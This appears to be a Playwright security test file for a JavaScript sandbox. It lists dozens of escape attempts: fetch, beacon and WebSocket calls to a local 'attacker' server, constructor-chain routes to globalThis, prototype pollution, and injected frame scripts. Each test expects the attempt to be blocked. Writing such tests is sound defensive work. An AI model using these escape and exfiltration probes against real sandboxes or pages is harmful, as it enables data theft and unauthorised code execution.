// Nobody gets out: 68 ways to reach the network, the visitor's data or the page, as a partitioner in the virtual machine
// and, for the outer walls, as a script in the sandbox's worker. None may succeed, and a server listening on another port
// may see no connection. What a worker of an ordinary page can do shows that the tries are real.
import type { Page } from 'playwright/test'
import { expect, test } from './fixtures/base.ts'
import {
  type Attacker,
  listenAsAttacker,
  openPage,
  runInPlainWorker,
  runInSandboxWorker,
  runOwn,
} from './fixtures/sandbox.ts'

let page: Page
let plain: Page
/** Nobody may reach it. */
let attacker: Attacker
/** Serves the ordinary page, whose worker may reach it. */
let elsewhere: Attacker

test.beforeAll(async ({ browser }) => {
  attacker = await listenAsAttacker()
  elsewhere = await listenAsAttacker()
  page = await openPage(browser)
  await page.evaluate(() => {
    localStorage.setItem('secret', 'mine')
    document.cookie = 'secret=mine'
  })
  plain = await (await browser.newContext()).newPage()
  await plain.goto(`${elsewhere.url}/`)
})

test.afterAll(async () => {
  attacker.close()
  elsewhere.close()
  await page.context().close()
  await plain.context().close()
})

const at = (path: string) => JSON.stringify(`${attacker.url}${path}`)

// --- In the machine. Each is an expression that is true when it got somewhere.

const has = (name: string) => `typeof ${name} !== 'undefined'`
const inMachine: readonly (readonly [name: string, expression: () => string])[] = [
  ['fetch', () => `${has('fetch')} && !!fetch(${at('/vm')})`],
  ['XMLHttpRequest', () => `${has('XMLHttpRequest')} && !!new XMLHttpRequest()`],
  ['WebSocket', () => `${has('WebSocket')} && !!new WebSocket(${at('/vm')})`],
  ['EventSource', () => `${has('EventSource')} && !!new EventSource(${at('/vm')})`],
  ['importScripts', () => `${has('importScripts')} && !importScripts(${at('/vm.js')})`],
  [
    'import() of the attacker',
    () => `(import(${at('/vm.js')}).then((m) => { state.got = true }), false)`,
  ],
  [
    'import() of a machine library',
    () => `(import('std').then((std) => { state.got = !!std }), false)`,
  ],
  ['navigator', () => has('navigator')],
  ['an image', () => has('Image')],
  ['RTCPeerConnection', () => has('RTCPeerConnection')],
  ['WebTransport', () => has('WebTransport')],
  ['a worker', () => has('Worker')],
  ['localStorage', () => has('localStorage')],
  ['indexedDB', () => has('indexedDB')],
  ['caches', () => has('caches')],
  ['document and its cookies', () => has('document')],
  ['self and window', () => `${has('self')} || ${has('window')} || ${has('frames')}`],
  ['parent, top and opener', () => `${has('parent')} || ${has('top')} || ${has('opener')}`],
  ['postMessage', () => `${has('postMessage')} || ${has('MessageChannel')}`],
  ['timers', () => `${has('setTimeout')} || ${has('setInterval')} || ${has('queueMicrotask')}`],
  ['performance', () => has('performance')],
  [
    'a moving clock',
    () =>
      `(() => { const t = Date.now(); for (let i = 0; i < 3e5; i++); return Date.now() !== t })()`,
  ],
  ['SharedArrayBuffer and Atomics', () => `${has('SharedArrayBuffer')} || ${has('Atomics')}`],
  ['WebAssembly', () => has('WebAssembly')],
  ['process and require', () => `${has('process')} || ${has('require')} || ${has('module')}`],
  ['the console', () => `${has('console')} || ${has('print')}`],
  ['eval', () => `eval('1') === 1`],
  ['Function', () => `Function('return 1')() === 1`],
  ['the constructor of an arrow', () => `(() => {}).constructor('return 1')() === 1`],
  ['the constructor of a generator', () => `!!(function* () {}).constructor('yield 1')().next()`],
  ['the constructor of an async function', () => `!!(async () => {}).constructor('return 1')()`],
  [
    'constructors of the record',
    () => `record.constructor.constructor('return globalThis')() !== null`,
  ],
  [
    'constructors of the bytes',
    () => `record.keyBytes.constructor.constructor('return globalThis')() !== null`,
  ],
  ['constructors of a helper', () => `murmur2.constructor('return globalThis')() !== null`],
  [
    'constructors of an error of the machine',
    () =>
      `(() => { try { null.x } catch (e) { return e.constructor.constructor('return 1')() === 1 } })()`,
  ],
  [
    'the caller',
    () =>
      `(() => { try { return !!arguments.callee.caller } catch { return !!partition.caller } })()`,
  ],
  ['a prototype for later', () => `(() => { Object.prototype.polluted = 1; return true })()`],
  [
    'another key behind its own',
    () => `record.keyBytes.buffer.byteLength !== record.keyBytes.length`,
  ],
]

for (const [name, expression] of inMachine) {
  test(`in the machine: ${name}`, async () => {
    const code = `function partition(record, topic, state) { state.got = ${expression()}; return 0 }`
    const answer = await runOwn(page, code)
    expect(answer.ended).toBeNull()
    // Refused by an error, or it was there and did nothing.
    if (answer.failed === 0) expect(JSON.parse(answer.state).got).toBe(false)
    else expect(answer.failures[0]?.error.message).toMatch(/EvalError|TypeError|ReferenceError/)
    expect(attacker.hits()).toBe(0)
  })
}

// --- In the worker, as if the machine had been left. `control`: what an ordinary worker answers to the same script.

interface WorkerProbe {
  readonly name: string
  readonly body: () => string
  readonly control: 'true' | null
}

const heard = (made: string, good: string) =>
  `return await new Promise((done) => { const it = ${made}; it.${good} = () => done(true); it.onerror = () => done(false) })`

const network: readonly WorkerProbe[] = [
  { name: 'fetch', body: () => `return (await fetch(${at('/a')})).ok`, control: 'true' },
  {
    name: 'fetch without CORS',
    body: () => `await fetch(${at('/a')}, { mode: 'no-cors' }); return true`,
    control: 'true',
  },
  {
    name: 'fetch that outlives the worker',
    body: () =>
      `await fetch(${at('/a')}, { method: 'POST', body: 'x', keepalive: true }); return true`,
    control: 'true',
  },
  {
    name: 'XMLHttpRequest',
    body: () =>
      `const x = new XMLHttpRequest(); x.open('GET', ${at('/a')}, false); x.send(); return x.status === 200`,
    control: 'true',
  },
  {
    name: 'WebSocket',
    body: () => heard(`new WebSocket(${at('/a')}.replace('http', 'ws'))`, 'onopen'),
    control: 'true',
  },
  {
    name: 'EventSource',
    body: () => heard(`new EventSource(${at('/events')})`, 'onmessage'),
    control: 'true',
  },
  {
    name: 'importScripts',
    body: () => `importScripts(${at('/a.js')}); return self.reached`,
    control: 'true',
  },
  {
    name: 'import()',
    body: () => `await import(${at('/a.js')}); return self.reached`,
    control: 'true',
  },
  {
    name: 'import() of a module from memory',
    body: () =>
      `return (await import(URL.createObjectURL(new Blob(['export const a = 1'], { type: 'text/javascript' })))).a === 1`,
    control: 'true',
  },
  {
    name: 'a worker of the attacker',
    body: () =>
      heard(`new Worker(${at('/a.js')})`, 'onmessage').replace(
        '.onmessage = () => done(true)',
        '.x = 0; setTimeout(() => done(true), 700)',
      ),
    control: 'true',
  },
  {
    name: 'a worker in the worker that fetches',
    body: () =>
      heard(
        `new Worker(URL.createObjectURL(new Blob([\`fetch(${at('/a')}).then(() => postMessage(1), () => { throw 1 })\`])))`,
        'onmessage',
      ).replace('it.onerror', 'setTimeout(() => done(false), 1500); it.onerror'),
    control: 'true',
  },
  {
    name: 'a font',
    body: () =>
      `await new FontFace('a', 'url(' + ${at('/a')} + ')').load().catch((e) => { if (e.name !== 'SyntaxError') throw e }); return true`,
    control: null,
  },
  {
    name: 'WebTransport',
    body: () => `await new WebTransport(${at('/a')}.replace('http:', 'https:')).ready; return true`,
    control: null,
  },
  {
    name: 'RTCPeerConnection',
    body: () => `return typeof RTCPeerConnection !== 'undefined'`,
    control: null,
  },
  {
    name: 'sendBeacon',
    body: () => `return navigator.sendBeacon(${at('/a')}, 'x')`,
    control: null,
  },
  {
    name: 'files of the app itself',
    body: () => `return (await fetch(${JSON.stringify('PAGE')})).ok`,
    control: null,
  },
]

const storage: readonly WorkerProbe[] = [
  {
    name: 'indexedDB',
    body: () =>
      `return await new Promise((done) => { const open = indexedDB.open('a'); open.onsuccess = () => done(true); open.onerror = () => done(false) })`,
    control: 'true',
  },
  {
    name: 'names of the databases',
    body: () => `return (await indexedDB.databases()).length >= 0`,
    control: 'true',
  },
  { name: 'cache storage', body: () => `return !!(await caches.open('a'))`, control: 'true' },
  {
    name: 'the private file system',
    body: () => `return !!(await navigator.storage.getDirectory())`,
    control: 'true',
  },
  {
    name: 'locks',
    body: () => `return await navigator.locks.request('a', () => true)`,
    control: 'true',
  },
  {
    name: 'cookies and localStorage',
    body: () =>
      `return typeof localStorage !== 'undefined' || (typeof cookieStore !== 'undefined' && (await cookieStore.getAll()).length > 0)`,
    control: null,
  },
]

const page_: readonly WorkerProbe[] = [
  {
    name: 'the window around it',
    body: () =>
      `return typeof parent !== 'undefined' || typeof top !== 'undefined' || typeof opener !== 'undefined' || typeof document !== 'undefined'`,
    control: null,
  },
  { name: 'eval', body: () => `return eval('1') === 1`, control: 'true' },
  { name: 'Function', body: () => `return Function('return 1')() === 1`, control: 'true' },
  {
    name: 'a string as a timer',
    body: () =>
      `self.ran = false; setTimeout('self.ran = true', 0); await new Promise((done) => setTimeout(done, 300)); return self.ran`,
    control: 'true',
  },
  {
    name: 'shared memory as a clock',
    body: () => `return typeof SharedArrayBuffer !== 'undefined'`,
    control: null,
  },
  {
    name: 'other pages of the site',
    body: () =>
      `new BroadcastChannel('a').postMessage('out'); await new Promise((done) => setTimeout(done, 300)); return false`,
    control: null,
  },
  {
    name: 'the service worker',
    body: () => `return !!(await navigator.serviceWorker.getRegistrations())`,
    control: null,
  },
  { name: 'an origin', body: () => `return self.origin !== 'null'`, control: 'true' },
]

for (const { name, body, control } of [...network, ...storage, ...page_]) {
  test(`in the worker: ${name}`, async () => {
    const script = body().replace('PAGE', new URL('index.html', page.url()).href)
    if (control !== null) {
      const seen = elsewhere.hits()
      const real = script.replaceAll(attacker.url, elsewhere.url)
      expect(await runInPlainWorker(plain, real), 'in an ordinary worker').toBe(control)
      if (real !== script) expect(elsewhere.hits()).toBeGreaterThan(seen)
    }
    expect(await runInSandboxWorker(page, script)).toMatch(/^(refused: \w+|false|undefined)$/)
    expect(attacker.hits()).toBe(0)
  })
}

test('a message to everyone reaches no page of the site', async () => {
  const heard = page.evaluate(
    () =>
      new Promise<string>((done) => {
        const channel = new BroadcastChannel('out')
        channel.onmessage = ({ data }) => done(data)
        setTimeout(() => done('nothing'), 1_000)
      }),
  )
  await runInSandboxWorker(page, `new BroadcastChannel('out').postMessage('heard'); return true`)
  expect(await heard).toBe('nothing')
})

test('the frame runs no script but its own, even when one is written into its text', async () => {
  const ran = await page.evaluate(async () => {
    const text = await (await fetch('sandbox.html')).text()
    const frame = document.createElement('iframe')
    frame.setAttribute('sandbox', 'allow-scripts')
    const said = new Promise<string>((done) => {
      addEventListener(
        'message',
        ({ source, data }) => source === frame.contentWindow && done(data),
      )
      setTimeout(() => done('nothing'), 1_000)
    })
    frame.srcdoc = text.replace('</body>', "<script>parent.postMessage('ran', '*')</script></body>")
    document.body.append(frame)
    const answer = await said
    frame.remove()
    return answer
  })
  expect(ran).toBe('nothing')
})

test('in a frame of another site no code runs and none can be allowed', async ({ browser }) => {
  const context = await browser.newContext()
  const around = await context.newPage()
  await around.goto(`${elsewhere.url}/`)
  // The header refuses to be framed at all; a host without headers would show the page.
  await around.route('**/127.0.0.1*/**', async (route) => {
    if (!route.request().url().startsWith(new URL(page.url()).origin)) return route.continue()
    const response = await route.fetch()
    const headers = { ...response.headers() }
    delete headers['content-security-policy']
    await route.fulfill({ response, headers })
  })
  await around.setContent(`<iframe src="${page.url()}"></iframe>`)
  const inner = around.frameLocator('iframe')
  await inner.locator('#root > *').first().waitFor()
  const frame = around.frames()[1]
  const answer = await frame?.evaluate(async () => {
    const { partitioners } = (globalThis as never as { samsa: { partitioners: never } }).samsa as {
      partitioners: {
        allow(code: string): void
        isAllowed(code: string): boolean
        run(batch: unknown): Promise<{ ended: { kind: string } | null }>
      }
    }
    const code = 'function partition() { return 0 }'
    partitioners.allow(code)
    const batch = { code, seed: 1, state: '{}', topic: 't', partitionCount: 1, available: [0] }
    const columns = { firstIndex: 0, keys: [null], valueBytes: [1], timestampsMs: [0] }
    const { ended } = await partitioners.run({ ...batch, ...columns })
    return [partitioners.isAllowed(code), ended?.kind]
  })
  expect(answer).toEqual([false, 'unavailable'])
  await context.close()
})
